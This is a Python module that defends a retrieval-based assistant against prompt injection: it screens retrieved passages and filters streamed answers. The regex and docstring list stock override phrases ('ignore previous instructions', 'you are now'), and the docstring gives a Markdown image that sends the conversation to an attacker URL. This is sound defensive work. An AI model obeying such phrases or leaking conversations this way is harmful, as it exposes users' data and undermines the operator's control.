"""Defences around the model for prompt injection (OWASP LLM01, LLM02, LLM07), in depth: the
prompt tells the model that sources and the visitor's words are data, but a 135M model (or any
model) cannot be trusted to obey, so what goes in and what comes out are checked too.

- In: retrieved passages that carry instructions aimed at the model ("ignore previous
  instructions", "you are now", "reply only with") are left out of the prompt and recorded.
- Out, while streaming: Markdown images are removed (an `![](https://attacker/?q=...)` would make
  a renderer fetch the URL with the conversation in it), and an answer that starts reciting the
  instructions is cut off.
"""

from __future__ import annotations

import re

from retrieval.search import Hit

INJECTION = re.compile(
    r"\b(ignore|disregard|forget|override)\b.{0,40}\b(instructions?|prompt|rules|the above|everything)\b"
    r"|\byou are now\b|\bnew instructions?\b|\bsystem prompt\b|\b(reply|respond|answer) only with\b"
    r"|\bdo not (tell|mention to) the (user|customer)\b|<\s*/?\s*(system|instructions?)\s*>",
    re.IGNORECASE | re.DOTALL,
)


def carries_instructions(text: str) -> bool:
    return bool(INJECTION.search(text))


def screen_hits(hits: list[Hit]) -> tuple[list[Hit], list[Hit]]:
    """(kept, excluded): passages that address the model are kept out of the prompt."""
    kept, excluded = [], []
    for hit in hits:
        (excluded if carries_instructions(hit.text) else kept).append(hit)
    return kept, excluded


_IMAGE = re.compile(r"!\[[^\]\n]{0,200}\]\([^)\n]{0,500}\)")
_IMAGE_PREFIX = re.compile(r"!(\[[^\]\n]{0,200}(\](\([^)\n]{0,500})?)?)?")  # what may still become one


class AnswerGuard:
    """A streaming filter over the model's text. feed() returns what may be sent now, holding
    back a possible Markdown image until it is complete (then dropped) or cannot be one; once
    the answer recites `instructions` (any run of `words` words of them), the rest is replaced
    by a refusal and `leaked` is true."""

    REFUSAL = "I can't share how I was set up, but I'm happy to help with your question."

    def __init__(self, instructions: str, *, words: int = 8) -> None:
        tokens = _words(instructions)
        self.shingles = {" ".join(tokens[i : i + words]) for i in range(len(tokens) - words + 1)}
        self.words = words
        self.pending = ""
        self.sent_words: list[str] = []
        self.leaked = False

    def feed(self, delta: str) -> str:
        if self.leaked:
            return ""
        self.pending = _IMAGE.sub("", self.pending + delta)
        hold = len(self.pending)
        bang = self.pending.rfind("!")
        if bang != -1 and _IMAGE_PREFIX.fullmatch(self.pending, bang):
            hold = bang  # "!", "![alt", "![alt](https://...": wait for the rest
        ready, self.pending = self.pending[:hold], self.pending[hold:]
        return self._check(ready)

    def flush(self) -> str:
        """The end: a held-back image prefix cut off by the length limit is dropped too."""
        ready, self.pending = _IMAGE.sub("", self.pending), ""
        bang = ready.rfind("!")
        if bang != -1 and _IMAGE_PREFIX.fullmatch(ready, bang) and ready[bang:] != "!":
            ready = ready[:bang]
        return "" if self.leaked else self._check(ready)

    def _check(self, ready: str) -> str:
        new = _words(ready)
        self.sent_words.extend(new)
        tail = self.sent_words[-(len(new) + self.words) :]
        for i in range(len(tail) - self.words + 1):
            if " ".join(tail[i : i + self.words]) in self.shingles:
                self.leaked = True
                return "\n\n" + self.REFUSAL
        return ready


def _words(text: str) -> list[str]:
    return re.findall(r"[a-z0-9']+", text.lower())
